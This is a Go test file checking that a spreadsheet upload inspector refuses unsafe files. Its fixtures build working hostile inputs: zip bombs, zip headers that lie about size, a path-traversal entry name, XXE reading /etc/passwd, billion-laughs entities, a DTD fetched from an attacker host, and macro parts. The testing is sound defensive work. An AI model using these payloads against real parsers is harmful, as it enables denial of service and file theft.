package returns

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"errors"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/resilience-dashboard/resilience/internal/domain"
)

// wantRefused checks that err is a *domain.Error with the code and a
// message holding every fragment.
func wantRefused(t *testing.T, err error, code string, fragments ...string) {
	t.Helper()
	var de *domain.Error
	if !errors.As(err, &de) {
		t.Fatalf("error %v (%T); want a *domain.Error %s", err, err, code)
	}
	if de.Code != code {
		t.Errorf("code %s; want %s (%s)", de.Code, code, de.Message)
	}
	for _, f := range fragments {
		if !strings.Contains(de.Message, f) {
			t.Errorf("message %q does not say %q", de.Message, f)
		}
	}
}

// SECURITY U5: a workbook and a real CSV file are accepted, and say which
// they are.
func TestInspectAcceptsWorkbookAndCSV(t *testing.T) {
	if kind, err := inspectFile(t, templateBook(t, goodValues()), "camden.xlsx", Limits{}); err != nil || kind != KindXLSX {
		t.Errorf("workbook: %s, %v; want xlsx", kind, err)
	}
	csv := append([]byte{0xEF, 0xBB, 0xBF}, "la_number,indicator,month,value\n202,CSC_CIN,2021-01,1100\n"...)
	if kind, err := inspectFile(t, writeFile(t, "bulk.csv", csv), "bulk.csv", Limits{}); err != nil || kind != KindCSV {
		t.Errorf("CSV with a byte-order mark: %s, %v; want csv", kind, err)
	}
	// A workbook named .csv is still a workbook: the content decides.
	if kind, err := inspectFile(t, templateBook(t, goodValues()), "return.csv", Limits{}); err != nil || kind != KindXLSX {
		t.Errorf("workbook named .csv: %s, %v; want xlsx", kind, err)
	}
}

// SECURITY U1, U5: an empty file and an oversized one are refused with a
// clear error before anything reads them.
func TestInspectEmptyAndOversized(t *testing.T) {
	_, err := inspectFile(t, writeFile(t, "empty.xlsx", nil), "empty.xlsx", Limits{})
	wantRefused(t, err, domain.EINVALID, "“empty.xlsx” is empty")

	path := templateBook(t, goodValues())
	_, err = inspectFile(t, path, "camden.xlsx", Limits{MaxFileBytes: 1024})
	wantRefused(t, err, domain.ETOOLARGE, "the largest file accepted is 1 KB")
}

// cfbFile builds the start of an OLE compound file whose directory names
// the given streams (in UTF-16LE, as real ones do).
func cfbFile(streams ...string) []byte {
	b := append([]byte{}, sigCFB...)
	b = append(b, make([]byte, 512-len(b))...)
	for _, s := range streams {
		b = append(b, utf16le(s)...)
		b = append(b, make([]byte, 64)...)
	}
	return append(b, make([]byte, 1024)...)
}

// SECURITY U5: files of the wrong type, renamed .xlsx, are refused with a
// message that names what the file is.
func TestInspectWrongTypeRenamed(t *testing.T) {
	encrypted := func(t *testing.T) []byte {
		f := excelize.NewFile()
		defer f.Close()
		_ = f.SetCellValue("Sheet1", "A1", "secret")
		path := filepath.Join(t.TempDir(), "locked.xlsx")
		if err := f.SaveAs(path, excelize.Options{Password: "hunter2"}); err != nil {
			t.Fatal(err)
		}
		b, _ := os.ReadFile(path)
		return b
	}
	zipOf := func(t *testing.T, names ...string) []byte {
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		for _, n := range names {
			w, _ := zw.Create(n)
			w.Write([]byte("application/vnd.oasis.opendocument.spreadsheet"))
		}
		zw.Close()
		return buf.Bytes()
	}
	for _, tc := range []struct {
		name     string
		file     func(t *testing.T) []byte
		fragment string
	}{
		{"CSV", func(*testing.T) []byte { return []byte("la_number,indicator,month,value\n202,CSC_CIN,2021-01,1100\n") }, "CSV text renamed .xlsx"},
		{"HTML export", func(*testing.T) []byte {
			return []byte("\ufeff  <!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>")
		}, "web page (HTML)"},
		{"HTML table", func(*testing.T) []byte { return []byte("<table><tr><td>202</td></tr></table>") }, "web page (HTML)"},
		{"PDF", func(*testing.T) []byte { return []byte("%PDF-1.7\n%âãÏÓ\n1 0 obj\n") }, "PDF document"},
		{"XLS", func(*testing.T) []byte { return cfbFile("Root Entry", "Workbook", "SummaryInformation") }, "Excel 97–2003 workbook (.xls)"},
		{"Word 97", func(*testing.T) []byte { return cfbFile("Root Entry", "WordDocument") }, "Word 97–2003 document"},
		{"encrypted", encrypted, "password-protected (encrypted)"},
		{"encrypted by hand", func(*testing.T) []byte { return cfbFile("Root Entry", "EncryptionInfo", "EncryptedPackage") }, "password-protected"},
		{"zip", func(t *testing.T) []byte { return zipOf(t, "data/readme.txt") }, "zip archive without an Excel workbook"},
		{"ODS", func(t *testing.T) []byte { return zipOf(t, "mimetype", "content.xml") }, "OpenDocument"},
		{"Word", func(t *testing.T) []byte { return zipOf(t, "[Content_Types].xml", "word/document.xml") }, "Word document"},
		{"Excel 2003 XML", func(*testing.T) []byte {
			return []byte(`<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">`)
		}, "Excel 2003 XML"},
		{"UTF-16 text", func(*testing.T) []byte { return append([]byte{0xFF, 0xFE}, utf16le("la_number\tvalue")...) }, "UTF-16"},
		{"gzip", func(*testing.T) []byte { return []byte{0x1F, 0x8B, 8, 0, 0, 0, 0, 0} }, "compressed archive"},
		{"binary", func(*testing.T) []byte { return []byte{0, 1, 2, 3, 4, 5, 0xFF, 0} }, "neither an Excel workbook nor UTF-8 CSV"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			path := writeFile(t, "return.xlsx", tc.file(t))
			_, err := inspectFile(t, path, `C:\Users\lead\Desktop\return.xlsx`, Limits{})
			wantRefused(t, err, domain.EINVALID, "“return.xlsx”", tc.fragment)
		})
	}
}

// SECURITY U5: a CSV upload must be UTF-8 without NUL bytes; Windows-1252
// text (older Excel "CSV") is refused, not read as garbage.
func TestInspectCSVMustBeUTF8(t *testing.T) {
	latin1 := []byte("la_number,indicator,month,value,note\n202,CSC_CIN,2021-01,1100,cost \xa3500\n")
	_, err := inspectFile(t, writeFile(t, "bulk.csv", latin1), "bulk.csv", Limits{})
	wantRefused(t, err, domain.EINVALID, "neither an Excel workbook nor UTF-8 CSV")

	// A multi-byte character cut by Inspect's 64 KiB chunks is still UTF-8.
	long := []byte("la_number,indicator,month,value,note\n")
	for len(long) < 200_000 {
		long = append(long, "202,CSC_CIN,2021-01,1100,£ café ✓\n"...)
	}
	if kind, err := inspectFile(t, writeFile(t, "bulk.csv", long), "bulk.csv", Limits{}); err != nil || kind != KindCSV {
		t.Errorf("long UTF-8 CSV: %s, %v", kind, err)
	}
	_, err = inspectFile(t, writeFile(t, "notes.txt", []byte("just some notes\nno columns\n")), "notes.txt", Limits{})
	wantRefused(t, err, domain.EINVALID, "plain text without comma-separated columns")
}

// SECURITY U3: a file cut short (an interrupted upload) is refused as
// damaged.
func TestInspectTruncated(t *testing.T) {
	b, err := os.ReadFile(templateBook(t, goodValues()))
	if err != nil {
		t.Fatal(err)
	}
	for _, keep := range []int{len(b) / 2, len(b) - 10, 30} {
		_, err := inspectFile(t, writeFile(t, "cut.xlsx", b[:keep]), "cut.xlsx", Limits{})
		wantRefused(t, err, domain.EINVALID, "damaged or incomplete")
	}
}

// repeatedEntry writes an honest zip entry (true sizes and checksum)
// whose content is chunk repeated times times, compressing chunk only
// once: a deflate stream flushed without closing ends on a byte boundary
// and refers only to itself, so copies of it can follow one another.
func repeatedEntry(t *testing.T, zw *zip.Writer, name string, chunk []byte, times int) {
	t.Helper()
	var comp bytes.Buffer
	fw, _ := flate.NewWriter(&comp, flate.BestCompression)
	fw.Write(chunk)
	fw.Flush()
	one := slices.Clone(comp.Bytes())
	var end bytes.Buffer
	fe, _ := flate.NewWriter(&end, flate.BestCompression)
	fe.Close() // a final, empty block
	crc := uint32(0)
	for range times {
		crc = crc32.Update(crc, crc32.IEEETable, chunk)
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(len(one)*times + end.Len()), UncompressedSize64: uint64(len(chunk) * times)})
	if err != nil {
		t.Fatal(err)
	}
	for range times {
		w.Write(one)
	}
	w.Write(end.Bytes())
}

// SECURITY U2: a zip bomb (a few hundred kilobytes that unzip to 520 MB)
// is refused by the default limits before anything expands it, and memory
// stays bounded.
func TestInspectZipBomb(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bomb.xlsx")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(f)
	for _, p := range minimalParts(sheetXMLOf(""), "") {
		if p.name == "xl/worksheets/sheet1.xml" {
			continue
		}
		w, _ := zw.Create(p.name)
		w.Write(p.data)
	}
	repeatedEntry(t, zw, "xl/worksheets/sheet1.xml", make([]byte, 1<<20), 520)
	zw.Close()
	f.Close()
	if fi, _ := os.Stat(path); fi.Size() > 2<<20 {
		t.Fatalf("the bomb is %d bytes; want a small file", fi.Size())
	}

	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	_, err = inspectFile(t, path, "bomb.xlsx", Limits{})
	elapsed := time.Since(start)
	runtime.ReadMemStats(&after)
	wantRefused(t, err, domain.ETOOLARGE, "unpacks to more than 512 MB")
	if elapsed > 2*time.Second {
		t.Errorf("refusing the bomb took %s; the declared sizes should refuse it at once", elapsed)
	}
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 16<<20 {
		t.Errorf("Inspect allocated %d MB on a zip bomb; want it bounded", grew>>20)
	}

	// Parse, even if called without Inspect, is bounded by the same
	// limits: excelize refuses the archive.
	if _, err := Parse(t.Context(), path, KindXLSX, testCatalogue(), Limits{}, nil); err == nil {
		t.Error("Parse read a zip bomb")
	}

	// A bomb within the total limit but over the limit for one part is
	// refused too, after reading no more than that part's limit.
	small := Limits{MaxUnzippedBytes: 1 << 30, MaxPartBytes: 300 << 20}
	_, err = inspectFile(t, path, "bomb.xlsx", small)
	wantRefused(t, err, domain.ETOOLARGE, "xl/worksheets/sheet1.xml", "300 MB")
}

// SECURITY U2: a huge shared-strings table in a small file (1.2 million
// one-letter strings, 20 MB unzipped, 60 KB zipped) is refused: excelize
// would keep a Go value for each.
func TestInspectHugeSharedStrings(t *testing.T) {
	var b strings.Builder
	b.WriteString(`<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`)
	for range maxSharedStrings + 200_000 {
		b.WriteString("<si><t>a</t></si>")
	}
	b.WriteString("</sst>")
	path := writeZip(t, minimalParts(sheetXMLOf("A1:A1", `<row r="1"><c r="A1" t="s"><v>0</v></c></row>`), b.String()))
	if fi, _ := os.Stat(path); fi.Size() > 1<<20 {
		t.Fatalf("the fixture is %d bytes; want a small file", fi.Size())
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err := inspectFile(t, path, "strings.xlsx", Limits{})
	runtime.ReadMemStats(&after)
	wantRefused(t, err, domain.ETOOLARGE, "distinct text values")
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 16<<20 {
		t.Errorf("Inspect allocated %d MB; want it bounded", grew>>20)
	}
}

// SECURITY U2: the parts excelize holds in memory whole (all but large
// sheets) are capped together, and the parts it parses into Go values when
// it opens a workbook are capped by element count: a 145 KB file whose
// styles.xml held 3.3 million <xf/> made excelize allocate 600 MB.
func TestInspectWholeParts(t *testing.T) {
	build := func(t *testing.T, add func(zw *zip.Writer)) string {
		path := filepath.Join(t.TempDir(), "parts.xlsx")
		f, err := os.Create(path)
		if err != nil {
			t.Fatal(err)
		}
		zw := zip.NewWriter(f)
		for _, p := range minimalParts(sheetXMLOf(""), "") {
			w, _ := zw.Create(p.name)
			w.Write(p.data)
		}
		add(zw)
		zw.Close()
		f.Close()
		return path
	}
	styles := build(t, func(zw *zip.Writer) {
		repeatedEntry(t, zw, "xl/styles.xml", bytes.Repeat([]byte(`<xf numFmtId="0"/>`), 1<<16), 50)
	})
	_, err := inspectFile(t, styles, "styles.xlsx", Limits{})
	wantRefused(t, err, domain.ETOOLARGE, "more than 300,000 entries in xl/styles.xml")

	media := build(t, func(zw *zip.Writer) {
		for i := range 20 {
			repeatedEntry(t, zw, fmt.Sprintf("xl/media/image%d.png", i), make([]byte, 1<<20), 4)
		}
	})
	_, err = inspectFile(t, media, "media.xlsx", Limits{})
	wantRefused(t, err, domain.ETOOLARGE, "more than 64 MB of formatting, images and small sheets")

	// Twenty 3 MB sheets are held in memory too (excelize streams only
	// sheets over 4 MB from disk).
	sheets := build(t, func(zw *zip.Writer) {
		for i := 2; i < 24; i++ {
			repeatedEntry(t, zw, fmt.Sprintf("xl/worksheets/sheet%d.xml", i), make([]byte, 1<<20), 3)
		}
	})
	_, err = inspectFile(t, sheets, "sheets.xlsx", Limits{})
	wantRefused(t, err, domain.ETOOLARGE, "more than 64 MB")
}

// rawEntry writes a zip entry with headers set by hand.
func rawEntry(t *testing.T, zw *zip.Writer, name string, data []byte, declared uint64, crc uint32) {
	t.Helper()
	var comp bytes.Buffer
	fw, _ := flate.NewWriter(&comp, flate.DefaultCompression)
	fw.Write(data)
	fw.Close()
	w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(comp.Len()), UncompressedSize64: declared})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(comp.Bytes())
}

// lyingWorkbook is a minimal workbook whose sheet entry has the given
// declared size and checksum.
func lyingWorkbook(t *testing.T, sheet []byte, declared uint64, crc uint32) string {
	path := filepath.Join(t.TempDir(), "lying.xlsx")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(f)
	for _, p := range minimalParts("", "") {
		if p.name == "xl/worksheets/sheet1.xml" {
			rawEntry(t, zw, p.name, sheet, declared, crc)
			continue
		}
		w, _ := zw.Create(p.name)
		w.Write(p.data)
	}
	zw.Close()
	f.Close()
	return path
}

// SECURITY U3: a sheet whose zip header lies about its size is refused,
// not silently truncated (excelize trusts the header and cuts the sheet
// short without an error), and so is one with a corrupt checksum.
func TestInspectLyingSizesAndChecksums(t *testing.T) {
	var rows []string
	for i := 1; i <= 2000; i++ {
		rows = append(rows, fmt.Sprintf(`<row r="%d"><c r="A%d"><v>%d</v></c></row>`, i, i, i))
	}
	sheet := []byte(sheetXMLOf("", rows...))
	crc := crc32.ChecksumIEEE(sheet)

	short := lyingWorkbook(t, sheet, 1000, crc)
	_, err := inspectFile(t, short, "short.xlsx", Limits{})
	wantRefused(t, err, domain.EINVALID, "damaged", "not the size its header says")
	// What Inspect guards against: excelize opens it without complaint
	// and reads a sheet cut short.
	if f, err := excelize.OpenFile(short); err == nil {
		rows, _ := f.GetRows("Data")
		f.Close()
		if len(rows) >= 2000 {
			t.Logf("excelize read all %d rows despite the lying header", len(rows))
		}
	} else {
		t.Logf("excelize now refuses a lying header itself: %v", err)
	}

	long := lyingWorkbook(t, sheet, uint64(len(sheet))+5000, crc)
	_, err = inspectFile(t, long, "long.xlsx", Limits{})
	wantRefused(t, err, domain.EINVALID, "not the size its header says")

	badCRC := lyingWorkbook(t, sheet, uint64(len(sheet)), crc^0xFFFF)
	_, err = inspectFile(t, badCRC, "crc.xlsx", Limits{})
	wantRefused(t, err, domain.EINVALID, "fails its checksum")

	honest := lyingWorkbook(t, sheet, uint64(len(sheet)), crc)
	if _, err := inspectFile(t, honest, "ok.xlsx", Limits{}); err != nil {
		t.Errorf("the honest version is refused: %v", err)
	}
}

// SECURITY U3: a zip with 100,000 entries is refused from its directory
// record, quickly.
func TestInspectTooManyEntries(t *testing.T) {
	path := filepath.Join(t.TempDir(), "many.xlsx")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(f)
	for _, p := range minimalParts(sheetXMLOf(""), "") {
		w, _ := zw.Create(p.name)
		w.Write(p.data)
	}
	for i := range 100_000 {
		if _, err := zw.CreateHeader(&zip.FileHeader{Name: fmt.Sprintf("xl/media/i%d", i), Method: zip.Store}); err != nil {
			t.Fatal(err)
		}
	}
	zw.Close()
	f.Close()
	start := time.Now()
	_, err = inspectFile(t, path, "many.xlsx", Limits{})
	wantRefused(t, err, domain.ETOOLARGE, "100005 internal parts", "at most 500")
	if d := time.Since(start); d > time.Second {
		t.Errorf("took %s", d)
	}
}

// SECURITY U3: entry names that climb out of the archive, and two parts
// with one name, are refused.
func TestInspectUnsafeAndDuplicateNames(t *testing.T) {
	parts := append(minimalParts(sheetXMLOf(""), ""), part{"../../etc/cron.d/x", []byte("x")})
	_, err := inspectFile(t, writeZip(t, parts), "evil.xlsx", Limits{})
	wantRefused(t, err, domain.EINVALID, "unsafe names")

	parts = append(minimalParts(sheetXMLOf(""), ""), part{"XL/Workbook.xml", []byte("<workbook/>")})
	_, err = inspectFile(t, writeZip(t, parts), "dup.xlsx", Limits{})
	wantRefused(t, err, domain.EINVALID, "two parts named")

	// A second workbook that excelize would read (through _rels/.rels)
	// while the checks read xl/workbook.xml.
	parts = minimalParts(sheetXMLOf(""), "")
	for i := range parts {
		if parts[i].name == "_rels/.rels" {
			parts[i].data = bytes.Replace(parts[i].data, []byte(`Target="xl/workbook.xml"`), []byte(`Target="other/workbook.xml"`), 1)
		}
	}
	_, err = inspectFile(t, writeZip(t, parts), "two-books.xlsx", Limits{})
	wantRefused(t, err, domain.EINVALID, "main part is not xl/workbook.xml")
}

// SECURITY U4: XML with a DTD (external entity, billion laughs) is refused
// rather than read with the entities silently blank.
func TestInspectXMLEntities(t *testing.T) {
	xxe := `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>`
	var lol strings.Builder
	lol.WriteString(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">`)
	prev := "lol"
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&lol, `<!ENTITY lol%d "%s">`, i, strings.Repeat("&"+prev+";", 10))
		prev = fmt.Sprintf("lol%d", i)
	}
	lol.WriteString(`]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>`)
	for _, tc := range []struct {
		name  string
		parts []part
	}{
		{"XXE in a sheet", minimalParts(xxe, "")},
		{"billion laughs in shared strings", minimalParts(sheetXMLOf(""), lol.String())},
		{"entity only, lower case", minimalParts(sheetXMLOf(""), `<!entity x "y"><sst/>`)},
		{"DTD in the relationships", append(minimalParts(sheetXMLOf(""), ""), part{"xl/worksheets/_rels/sheet1.xml.rels", []byte(`<!DOCTYPE r SYSTEM "http://attacker/x.dtd"><Relationships/>`)})},
		{"DTD in a part not named .xml", append(minimalParts(sheetXMLOf(""), ""), part{"xl/worksheets/sheet9.dat", []byte(xxe)})},
		{"UTF-16 XML", minimalParts(string(append([]byte{0xFF, 0xFE}, utf16le(xxe)...)), "")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := inspectFile(t, writeZip(t, tc.parts), "return.xlsx", Limits{})
			wantRefused(t, err, domain.EINVALID, "document type declaration")
		})
	}
	// CDATA is not a DTD.
	ok := minimalParts(sheetXMLOf("", `<row r="1"><c r="A1" t="inlineStr"><is><t><![CDATA[x]]></t></is></c></row>`), "")
	if _, err := inspectFile(t, writeZip(t, ok), "return.xlsx", Limits{}); err != nil {
		t.Errorf("CDATA refused: %v", err)
	}
}

// SECURITY U6: macro-enabled workbooks are refused: a VBA project, the
// macro-enabled content type, or Excel 4.0 macro sheets.
func TestInspectMacros(t *testing.T) {
	book := templateBook(t, goodValues())
	withVBA := append(readParts(t, book), part{"xl/vbaProject.bin", cfbFile("VBA", "dir")})
	macroType := editPart(t, book, "[Content_Types].xml", func(s string) string {
		return strings.Replace(s, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
			"application/vnd.ms-excel.sheet.macroEnabled.main+xml", 1)
	})
	xlm := append(readParts(t, book), part{"xl/macrosheets/sheet1.xml", []byte("<xm:macrosheet/>")})
	for name, path := range map[string]string{
		"vbaProject.bin": writeZip(t, withVBA),
		"content type":   macroType,
		"macro sheet":    writeZip(t, xlm),
	} {
		t.Run(name, func(t *testing.T) {
			_, err := inspectFile(t, path, "return.xlsm", Limits{})
			wantRefused(t, err, domain.EINVALID, "macro-enabled workbook", "Excel Workbook (*.xlsx)")
		})
	}
}
